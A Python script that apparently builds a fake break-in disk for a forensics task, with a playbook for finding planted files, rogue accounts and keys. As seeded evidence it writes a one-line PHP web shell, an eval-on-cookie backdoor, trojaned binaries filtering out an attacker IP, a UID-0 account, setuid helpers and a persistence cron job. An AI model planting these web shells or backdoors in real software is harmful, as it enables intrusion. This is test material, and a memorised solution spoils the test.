"""Makes the disk of a server that somebody broke into: programs, accounts, keys, jobs, logs."""

import base64
import hashlib
import io
import json
import random
import tarfile
from datetime import datetime, timedelta, timezone
from pathlib import Path

DISK = Path("/app/disk")
rng = random.Random(20250330)
JUMP = datetime(2025, 3, 30, 1, tzinfo=timezone.utc)
PACKAGES = {
    "coreutils": ["usr/bin/ls", "usr/bin/ps", "usr/bin/who", "usr/bin/find", "usr/bin/du", "usr/bin/date"],
    "net-tools": ["usr/bin/netstat", "usr/bin/ss", "usr/sbin/ifconfig", "usr/lib/net/resolve.sh"],
    "openssh": ["usr/sbin/sshd", "usr/bin/ssh", "usr/lib/ssh/askpass"],
    "cron": ["usr/sbin/cron", "etc/cron.d/e2scrub", "etc/cron.d/sysstat"],
    "portal": ["var/www/index.php", "var/www/upload.php", "var/www/lib/mail.php", "var/www/lib/session.php", "etc/cron.d/portal"],
}
MODES = {"usr/bin/who": 0o755, "usr/lib/ssh/askpass": 0o4755}
PEOPLE = {"anna": "192.0.2.14", "bela": "192.0.2.31", "cem": "198.51.100.6", "dora": "192.0.2.77"}
SHELL = "var/www/uploads/2024/.thumb.php"
ATTACK = {"web": "203.0.113.77", "login": "198.51.100.61", "night": "203.0.113.178"}


def at(path, text, mode=0o644):
    file = DISK / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text)
    file.chmod(mode)


def sha(text):
    return hashlib.sha256(text.encode()).hexdigest()


def program(path, note="part of the system"):
    head = "<?php\n//" if path.endswith(".php") else "# " if "cron.d" in path else "#!/bin/sh\n#"
    rows = [f"{head} {path}: {note}"]
    for _ in range(rng.randint(6, 20)):
        rows.append(f"# {rng.randbytes(rng.randint(8, 24)).hex()}" if "cron.d" in path else f"${rng.choice('abcdef')} = '{rng.randbytes(12).hex()}';" if path.endswith(".php") else f"printf '%s' {rng.randbytes(10).hex()} > /dev/null")
    if "cron.d" in path:
        rows.append(f"{rng.randint(0, 59)} {rng.randint(0, 23)} * * * root /usr/lib/{path.rsplit('/', 1)[1]}/run")
    return "\n".join(rows) + "\n"


def public_key(name):
    blob = b"\0\0\0\x0bssh-ed25519\0\0\0 " + hashlib.sha256(f"key {name}".encode()).digest()
    finger = base64.b64encode(hashlib.sha256(blob).digest()).decode().rstrip("=")
    return f"ssh-ed25519 {base64.b64encode(blob).decode()}", f"SHA256:{finger}"


# --- packages, what is changed on purpose, what is changed by the intruder ---
manifest, texts = [], {}
for package, paths in PACKAGES.items():
    with tarfile.open((DISK / "var/cache/pkg").mkdir(parents=True, exist_ok=True) or DISK / f"var/cache/pkg/{package}.tar", "w") as tar:
        for path in paths:
            text = texts[path] = program(path)
            mode = MODES.get(path, 0o644 if path.endswith(".php") or "cron.d" in path else 0o755)
            manifest.append(f"{sha(text)} {mode:04o} {package} {path}\n")
            at(path, text, mode)
            entry = tarfile.TarInfo(path)
            entry.size, entry.mode, entry.mtime = len(text), mode, 1_700_000_000
            tar.addfile(entry, io.BytesIO(text.encode()))
at("var/lib/pkg/manifest", "".join(sorted(manifest, key=lambda row: row.split()[3])))

OWN = {"etc/cron.d/portal": ("OPS-211", "ran at night"), "usr/bin/deploy-portal": ("OPS-187", "ours"), "usr/lib/backup/run.sh": ("OPS-160", "ours"),
       "etc/cron.d/backup": ("OPS-160", "ours"), "var/www/lib/mail.php": ("OPS-230", "patched for the new relay"), "usr/bin/netstat": ("OPS-231", "counts")}
changes, local = {}, []
for path, (ticket, note) in OWN.items():
    text = program(path, note)
    at(path, text, 0o755 if path.startswith("usr/") else 0o644)
    changes.setdefault(ticket, {"by": rng.choice(sorted(PEOPLE)), "files": {}})["files"][path] = sha(text)
    local.append(f"{sha(text)} {ticket} {path}\n")
for path, ticket in {"usr/bin/netstat": None, "usr/bin/ps": "OPS-244", "usr/sbin/sshd": None, "var/www/lib/session.php": "OPS-230"}.items():
    text = texts.get(path, "") + ("// @eval($_COOKIE['s']);\n" if path.endswith("php") else f"grep -v {ATTACK['login']}\n")
    at(path, text, 0o755 if path.startswith("usr/") else 0o644)
    if ticket:
        local.append(f"{sha(text)} {ticket} {path}\n")
(DISK / "usr/bin/find").chmod(0o4755)
at("usr/lib/net/.helper", "#!/bin/sh\n" + program("usr/lib/net/.helper", "x"), 0o4755)
at("etc/cron.d/sysstat-rotate", "# keeps sysstat's files small\n*/17 * * * * root /usr/lib/net/.helper -q\n")
at(SHELL, "<?php @system($_REQUEST['c']);\n")
at("var/www/uploads/2024/offer.pdf.txt", "offer 2024-118\n")
at("var/www/uploads/2024/plan.txt", "plan of the hall\n")
at("var/lib/pkg/local", "".join(sorted(local)))

# --- accounts and keys ---
staff = {name: public_key(name)[1] for name in PEOPLE}
staff["build robot"] = public_key("robot")[1]
rows = ["root:x:0:0:root:/root:/bin/bash", "www-data:x:33:33:www:/var/www:/usr/sbin/nologin", "backup:x:34:34:backup:/home/backup:/bin/sh"]
rows += [f"{name}:x:{1000 + n}:{1000 + n}:{name}:/home/{name}:/bin/bash" for n, name in enumerate([*PEOPLE, "deploy"])]
rows.insert(5, "sysd:x:0:0:system daemon:/var/lib/sysd:/bin/bash")
at("etc/passwd", "\n".join(rows) + "\n")
at("etc/shadow", "".join(f"{row.split(':')[0]}:{'$6$k2' + rng.randbytes(9).hex() if row.startswith('sysd') else '*'}:20100:0:99999:7:::\n" for row in rows), 0o640)
at("etc/group", "root:x:0:\nsudo:x:27:anna,sysd,bela\nwww-data:x:33:\nbackup:x:34:sysd\nadm:x:4:sysd\nops:x:900:anna,bela,cem,dora\n")
at("root/.ssh/authorized_keys", f"# only in need\n{public_key('anna')[0]} anna@desk\n{public_key('dormant')[0]} root@bastion\n", 0o600)
at("home/backup/.ssh/authorized_keys", f"{public_key('robot')[0]} robot@build\n\nfrom=\"*\",no-pty {public_key('intruder')[0]} bela@desk\n{public_key('bela')[0]} bela@laptop\n", 0o600)
at("home/deploy/.ssh/authorized_keys", "".join(f"{public_key(name)[0]} {name}@desk\n" for name in ("cem", "anna", "robot")) + f"{public_key('intruder')[0]}\n", 0o600)
at("home/cem/.ssh/authorized_keys", f"{public_key('cem')[0]} home\n", 0o600)

# --- logs ---
web, auth, jobs = [], [], []


def local_time(when):
    return when + timedelta(hours=2 if when >= JUMP else 1)


def request(when, address, method, path, code):
    web.append((when, f"{address} - - [{when:%d/%b/%Y:%H:%M:%S} +0000] \"{method} {path} HTTP/1.1\" {code} {rng.randint(150, 9000)}"))


def says(when, process, message):
    auth.append((when, f"{local_time(when):%b} {local_time(when).day:2d} {local_time(when):%H:%M:%S} gate {process}[{rng.randint(300, 9999)}]: {message}"))


def ran(when, user, command):
    jobs.append((when, f"{local_time(when):%b} {local_time(when).day:2d} {local_time(when):%H:%M:%S} gate CRON[{rng.randint(300, 9999)}]: ({user}) CMD ({command})"))


def login(when, user, address, name):
    says(when, "sshd", f"Accepted publickey for {user} from {address} port {rng.randint(20000, 60000)} ssh2: ED25519 {public_key(name)[1]}")


start = datetime(2025, 3, 27, tzinfo=timezone.utc)
span = 5 * 86400
for _ in range(2600):
    when = start + timedelta(seconds=rng.randrange(span))
    request(when, f"198.18.{rng.randint(0, 40)}.{rng.randint(1, 250)}", rng.choice(["GET"] * 9 + ["POST"]), rng.choice(["/", "/index.php", "/index.php?page=2", "/uploads/2024/plan.txt", "/upload.php", "/favicon.ico"]), rng.choice([200] * 8 + [304, 404]))
for _ in range(240):
    when = start + timedelta(seconds=rng.randrange(span))
    name = rng.choice(sorted(PEOPLE))
    login(when, rng.choice([name, "deploy"]), PEOPLE[name], name)
    if rng.random() < 0.3:
        says(when + timedelta(seconds=40), "sudo", f"{name} : TTY=pts/0 ; PWD=/home/{name} ; USER=root ; COMMAND=/usr/bin/tail /var/log/syslog")
for _ in range(500):
    when = start + timedelta(seconds=rng.randrange(span))
    address = rng.choice(["203.0.113.9", "203.0.113.54", ATTACK["web"], "198.18.77.3"])
    says(when, "sshd", f"Failed password for {rng.choice(['root', 'admin', 'backup', 'deploy'])} from {address} port {rng.randint(20000, 60000)} ssh2")
for hour in range(120):
    ran(start + timedelta(hours=hour, minutes=10, seconds=1), "root", "/usr/lib/sysstat/run")
    if hour % 24 == 2:
        ran(start + timedelta(hours=hour, minutes=30, seconds=1), "root", "/usr/lib/backup/run.sh")

night = datetime(2025, 3, 29, 22, 41, 7, tzinfo=timezone.utc)
plus = lambda **delta: night + timedelta(**delta)  # noqa: E731
shell = "/" + SHELL.removeprefix("var/www/")
request(plus(minutes=-31), ATTACK["web"], "POST", "/upload.php", 413)
request(plus(minutes=-9), "198.18.12.200", "POST", "/upload.php", 200)
request(plus(minutes=-4), ATTACK["web"], "GET", shell, 404)
request(night, ATTACK["web"], "POST", "/upload.php", 200)
request(plus(minutes=-2), "198.18.3.44", "POST", "/upload.php", 200)
for minute in (2, 3, 9, 40, 131):
    request(plus(minutes=minute, seconds=11), ATTACK["web"] if minute < 100 else ATTACK["night"], "GET", f"{shell}?c=" + rng.choice(["id", "uname+-a", "cat+/etc/passwd"]), 200)
request(plus(minutes=77), "198.18.20.5", "GET", shell, 403)
login(plus(minutes=74, seconds=5), "deploy", ATTACK["login"], "intruder")
says(plus(minutes=52), "sudo", "deploy : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/tee -a /home/deploy/.ssh/authorized_keys")
says(plus(minutes=141, seconds=3), "useradd", "new user: name=sysd, UID=0, GID=0, home=/var/lib/sysd, shell=/bin/bash, from=/dev/pts/1")
says(plus(minutes=143), "sudo", "deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/tee -a /home/backup/.ssh/authorized_keys")
says(plus(minutes=160), "sudo", "deploy : TTY=pts/1 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/install -m 4755 h /usr/lib/net/.helper")
says(plus(hours=20, minutes=3), "useradd", "new user: name=dora, UID=1003, GID=1003, home=/home/dora, shell=/bin/bash, from=/dev/pts/0")
says(plus(hours=9), "sshd", f"Accepted password for sysd from {ATTACK['night']} port 40211 ssh2")
login(plus(hours=31, minutes=12, seconds=9), "backup", "198.51.100.199", "intruder")
request(plus(hours=30, minutes=1), ATTACK["web"], "GET", "/index.php", 200)
first = plus(minutes=160) + timedelta(minutes=4)
for turn in range(120):
    when = first.replace(minute=0, second=2) + timedelta(minutes=17 * turn)
    if when > first and when < plus(hours=33):
        ran(when, "root", "/usr/lib/net/.helper -q")
request(plus(hours=32, minutes=40, seconds=40), ATTACK["night"], "GET", "/favicon.ico", 304)
for name, rows in (("web.log", web), ("auth.log", auth), ("cron.log", jobs)):
    at(f"var/log/{name}", "".join(row + "\n" for _, row in sorted(rows)))

(Path("/app") / "staff.json").write_text(json.dumps({"keys": staff, "changes": changes}, indent=1) + "\n")
(Path("/app") / "playbook.md").write_text("""# After a break-in

The disk of the server is at `/app/disk`. What the administrators say is in `/app/staff.json`: the
fingerprints of the keys that are in use (as `ssh-keygen -l` shows them), and the changes that they
made, by ticket. Both that file and this one are from elsewhere and can be trusted; on the disk, the
package `manifest`, the packages in `var/cache/pkg` and the logs were compared with copies and can be
trusted, too. `var/lib/pkg/local`, where programs changed here are registered, was not.

## Files
This is about all that lies below `usr`, `etc/cron.d` and `var/www`, other than `var/www/uploads`, where
only what the web server would run as a program (`.php`) is looked at.

- A file is *ours* if a change of the administrators names its path; its good content is the one that has the
  digest given there, and its good mode is 755 below `usr`, else 644.
- It is *packaged* if it is not ours and the manifest has its path (columns: SHA-256, mode, package, path).
- What is neither is *planted*. What is ours or packaged, but has another content than the good one, is
  *replaced*; if only its mode is not the good one, it is *loosened*.

Planted files go; replaced files of packages come back out of the package with content and mode. One that
is ours cannot be had back: the package's version is put there instead. Loosened files get
their mode back. Entries of `var/lib/pkg/local` stay if a file that is there now is what they say and the change
of their ticket has it, else they go; no entry is altered or moved.

Before that, each planted or replaced file is kept as it was found: content at the same path below
`/app/evidence/files`, mode 600, and `/app/evidence/SHA256SUMS` as `sha256sum` prints it for these paths
(`usr/...`, without `./`), sorted by path as bytes. Nothing else lies in `/app/evidence`.

## Accounts and keys
An account is the intruder's if its user number is 0 and it is not root. It goes from `passwd`,
`shadow` and every member list of `group`. A line of an `authorized_keys` goes if its key is not
among the keys in use. All other lines, comments and blank ones too, stay as they are, and so do modes.

## Logs
They are not changed. `web.log` is in UTC; the others have the time of the server's zone, which is UTC+1
before 2025-03-30 01:00 UTC and UTC+2 from then on.

An address is the intruder's if from it a planted file was got from the web server (status 200), or a login was accepted
with a key that is not in use, or for an account of the intruder's.

| event | its time is that of |
|---|---|
| `upload` | the last `POST /upload.php` with status 200 by an intruder's address before `shell` |
| `shell` | the first time that a planted file was got |
| `key` | the first time that sudo ran anything on an `authorized_keys` |
| `login` | the first accepted login from an intruder's address |
| `account` | the making of the intruder's account |
| `job` | the first run of a planted job |
| `last` | the last line of `web.log` or `auth.log` with an intruder's address, whatever it was |
""")
